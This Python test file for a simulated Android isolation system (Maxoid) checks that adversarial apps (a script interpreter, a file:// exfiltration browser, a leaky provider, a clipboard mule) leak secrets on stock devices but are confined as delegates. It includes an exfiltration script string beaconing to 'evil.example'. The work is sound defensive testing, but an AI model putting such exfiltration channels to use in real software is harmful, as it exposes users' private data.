"""The adversarial corpus: confined as delegates, silent as plain apps.

Each attacker class gets three checks: (1) on a stock device (or as a
plain app with a readable target) its channel actually leaks — the apps
are real attacks, not strawmen; (2) driven as a Maxoid delegate, every
channel dead-ends in the victim's volatile state with zero S1-S4
violations; (3) the negative control — the *same op sequence without
delegation* trips zero rules, so the rule engine isn't just flagging
everything the attackers touch.
"""

from __future__ import annotations

import pytest

from repro.apps import ADVERSARIAL_PACKAGES, ALL_PACKAGES, install_full_corpus
from repro.android.content.media import FILES_URI
from repro.android.content.provider import ContentValues
from repro.apps.adversarial import exfil_browser, interpreter, launderer, leaky_provider
from repro.core.device import Device
from repro.errors import FileNotFound, ReproError, SecurityException
from repro.fuzz.harness import SECRET, SECRET_PATH, VICTIM_PACKAGE, FuzzWorld
from repro.fuzz.ops import RunScript, Spawn
from repro.obs import OBS
from repro.obs.monitor import SecurityMonitor

pytestmark = pytest.mark.fuzz


@pytest.fixture
def corpus_device():
    """Maxoid device, full corpus, planted victim secret."""
    device = Device(maxoid_enabled=True)
    apps = install_full_corpus(device)
    device.apps = apps
    device.network.add_host(exfil_browser.HOME_HOST)
    device.spawn(VICTIM_PACKAGE).write_internal("secrets/secret.txt", SECRET)
    return device


@pytest.fixture
def monitored(corpus_device):
    """The corpus device under capture with the online monitor attached."""
    with OBS.capture(prov=True):
        with SecurityMonitor(
            OBS.tracer, set(ALL_PACKAGES), ledger=OBS.provenance
        ) as monitor:
            yield corpus_device, monitor


def test_corpus_registers_alongside_catalogue(corpus_device):
    assert set(ADVERSARIAL_PACKAGES) <= set(corpus_device.apps)
    # The Table 1 set is still intact next to the attackers.
    assert VICTIM_PACKAGE in corpus_device.apps
    assert len(ALL_PACKAGES) == len(corpus_device.apps)


# ---------------------------------------------------------------------------
# Interpreter
# ---------------------------------------------------------------------------


def test_interpreter_delegate_reads_but_cannot_publish(monitored):
    device, monitor = monitored
    api = device.spawn(interpreter.PACKAGE, initiator=VICTIM_PACKAGE)
    app = device.apps[interpreter.PACKAGE]
    app.run_script(api, f"read {SECRET_PATH}\nexfil loot.bin\npost evil.example x")
    # The read succeeded (delegates see the initiator's view)...
    assert app.accumulator(api) == SECRET
    outcomes = dict(app.transcript)
    assert outcomes[f"read {SECRET_PATH}"].startswith("ok")
    # ...the beacon died (delegates are offline)...
    assert outcomes["post evil.example x"].startswith("err")
    # ...and the "public" drop is only visible inside Vol(victim).
    victim = device.spawn(VICTIM_PACKAGE)
    assert (
        victim.sys.read_file(f"/storage/sdcard/tmp/{interpreter.DROP_DIR}/loot.bin")
        == SECRET
    )
    plain = device.spawn(launderer.PACKAGE)
    with pytest.raises(ReproError):
        plain.read_external(f"{interpreter.DROP_DIR}/loot.bin")
    assert monitor.violations == []


def test_interpreter_negative_control_without_delegation(monitored):
    """Same script, plain process: the read is denied, nothing leaks,
    and — the control — zero rules fire."""
    device, monitor = monitored
    api = device.spawn(interpreter.PACKAGE)
    app = device.apps[interpreter.PACKAGE]
    app.run_script(api, f"read {SECRET_PATH}\nexfil loot.bin\nclip-copy")
    assert dict(app.transcript)[f"read {SECRET_PATH}"] == "err:PermissionDenied"
    assert app.accumulator(api) == b""
    assert monitor.violations == []


def test_plain_interpreter_cannot_publish_what_its_delegate_read():
    """The delegate instance reads the victim's secret; a plain instance
    of the same package then exfiltrates. Its public drop must hold only
    what that process itself loaded: nothing."""
    delegate = f"{interpreter.PACKAGE}^{VICTIM_PACKAGE}"
    ops = [
        Spawn(VICTIM_PACKAGE),
        Spawn(interpreter.PACKAGE, VICTIM_PACKAGE),
        RunScript(delegate, f"read {SECRET_PATH}"),
        Spawn(interpreter.PACKAGE),
        RunScript(interpreter.PACKAGE, "exfil x"),
    ]
    with FuzzWorld() as world:
        outcomes = [world.step(op) for op in ops]
        assert outcomes[2] == outcomes[4] == "executed 1"
        observer = world.device.spawn(launderer.PACKAGE)
        drop = observer.read_external(f"{interpreter.DROP_DIR}/x")
    assert SECRET not in drop
    assert drop == b""
    assert world.monitor.violations == []


# ---------------------------------------------------------------------------
# file:// exfil browser
# ---------------------------------------------------------------------------


def test_browser_delegate_renders_but_outbox_is_volatile(monitored):
    device, monitor = monitored
    api = device.spawn(exfil_browser.PACKAGE, initiator=VICTIM_PACKAGE)
    app = device.apps[exfil_browser.PACKAGE]
    result = app.render_file(api, SECRET_PATH)
    assert result["rendered"] and result["bytes"] == len(SECRET)
    assert result["beaconed"] is False  # ENETUNREACH for delegates
    plain = device.spawn(launderer.PACKAGE)
    with pytest.raises(ReproError):
        plain.read_external(f"{exfil_browser.OUTBOX_DIR}/secret.txt")
    assert monitor.violations == []


def test_webexfil_cannot_open_a_media_row_the_victims_delegate_inserted(corpus_device):
    """A Media row URI opens only rows in the caller's view: the row a
    delegate inserted for a file in Vol(victim) is not in an unrelated
    app's, so its bytes are not either."""
    delegate = corpus_device.spawn(interpreter.PACKAGE, VICTIM_PACKAGE)
    loot = delegate.write_external("interpreter/loot.txt", delegate.sys.read_file(SECRET_PATH))
    uri = delegate.insert(FILES_URI, ContentValues({"_data": loot, "title": "loot"}))
    assert delegate.open_input(uri) == SECRET
    webexfil = corpus_device.spawn(exfil_browser.PACKAGE)
    assert webexfil.query(uri).rows == []
    with pytest.raises(FileNotFound):
        webexfil.open_input(uri)


def test_browser_negative_control_without_delegation(monitored):
    device, monitor = monitored
    api = device.spawn(exfil_browser.PACKAGE)
    app = device.apps[exfil_browser.PACKAGE]
    with pytest.raises(ReproError):
        app.render_file(api, SECRET_PATH)
    # Rendering its own (public) files beacons freely — and is no crime.
    own = api.write_external("pages/home.html", b"<html>hi</html>")
    result = app.render_file(api, own)
    assert result["beaconed"] is True
    assert monitor.violations == []


# ---------------------------------------------------------------------------
# Exported leaky provider
# ---------------------------------------------------------------------------


def test_leaky_provider_serves_plain_ingest_to_anyone(monitored):
    """The exported surface really is open: no grant, foreign caller."""
    device, monitor = monitored
    app = device.apps[leaky_provider.PACKAGE]
    ingester = device.spawn(leaky_provider.PACKAGE)
    own = ingester.write_external("docs/memo.txt", b"public memo")
    app.ingest(ingester, own)
    stranger = device.spawn(launderer.PACKAGE)
    assert stranger.open_input(app.content_uri("memo.txt")) == b"public memo"
    assert monitor.violations == []


def test_leaky_provider_delegate_ingest_is_invisible(monitored):
    """Hoarded under Priv(leaky^victim), the secret never reaches the
    plain serving process — the exported surface has nothing to leak."""
    device, monitor = monitored
    app = device.apps[leaky_provider.PACKAGE]
    delegate = device.spawn(leaky_provider.PACKAGE, initiator=VICTIM_PACKAGE)
    app.ingest(delegate, SECRET_PATH)
    stranger = device.spawn(launderer.PACKAGE)
    with pytest.raises(ReproError):
        stranger.open_input(app.content_uri("secret.txt"))
    assert monitor.violations == []


def test_unexported_provider_still_needs_grant(monitored):
    """The exported flag is per-provider: the Email attachment provider
    keeps its per-URI grant discipline."""
    device, monitor = monitored
    email_app = device.apps[VICTIM_PACKAGE]
    victim = device.spawn(VICTIM_PACKAGE)
    att_id = email_app.receive_attachment(victim, "a.pdf", b"%PDF attach")
    uri = email_app.attachment_uri(att_id)
    stranger = device.spawn(launderer.PACKAGE)
    with pytest.raises(SecurityException):
        stranger.open_input(uri)
    assert monitor.violations == []


# ---------------------------------------------------------------------------
# Clipboard launderer
# ---------------------------------------------------------------------------


def test_mule_poll_comes_back_empty_under_isolation(monitored):
    device, monitor = monitored
    delegate = device.spawn(interpreter.PACKAGE, initiator=VICTIM_PACKAGE)
    app = device.apps[interpreter.PACKAGE]
    app.run_script(delegate, f"read {SECRET_PATH}\nclip-copy")
    mule_api = device.spawn(launderer.PACKAGE)
    mule = device.apps[launderer.PACKAGE]
    assert mule.poll(mule_api) is None  # main clipboard never saw it
    assert mule.loot == []
    assert monitor.violations == []


def test_mule_negative_control_public_clipboard_traffic(monitored):
    """Laundering *public* clipboard content is not a violation."""
    device, monitor = monitored
    victim = device.spawn(VICTIM_PACKAGE)
    victim.clipboard_set("a perfectly public note")
    mule_api = device.spawn(launderer.PACKAGE)
    mule = device.apps[launderer.PACKAGE]
    path = mule.poll(mule_api)
    assert path is not None and mule.loot == [path]
    assert monitor.violations == []


# ---------------------------------------------------------------------------
# Stock-device positive controls: the attacks are real
# ---------------------------------------------------------------------------


def test_attacks_succeed_on_stock_android():
    device = Device(maxoid_enabled=False)
    apps = install_full_corpus(device)
    device.spawn(VICTIM_PACKAGE).write_internal(
        "secrets/secret.txt", SECRET, mode=0o644
    )
    # Interpreter: a victim-supplied script exfiltrates to real storage.
    interp = device.spawn(interpreter.PACKAGE)
    apps[interpreter.PACKAGE].run_script(
        interp, f"read {SECRET_PATH}\nexfil loot.bin"
    )
    stranger = device.spawn(launderer.PACKAGE)
    assert stranger.read_external(f"{interpreter.DROP_DIR}/loot.bin") == SECRET
    # Clipboard: one global domain, the mule sees the victim's copy.
    victim = device.spawn(VICTIM_PACKAGE)
    victim.clipboard_set("secret text")
    mule_api = device.spawn(launderer.PACKAGE)
    assert apps[launderer.PACKAGE].poll(mule_api) is not None
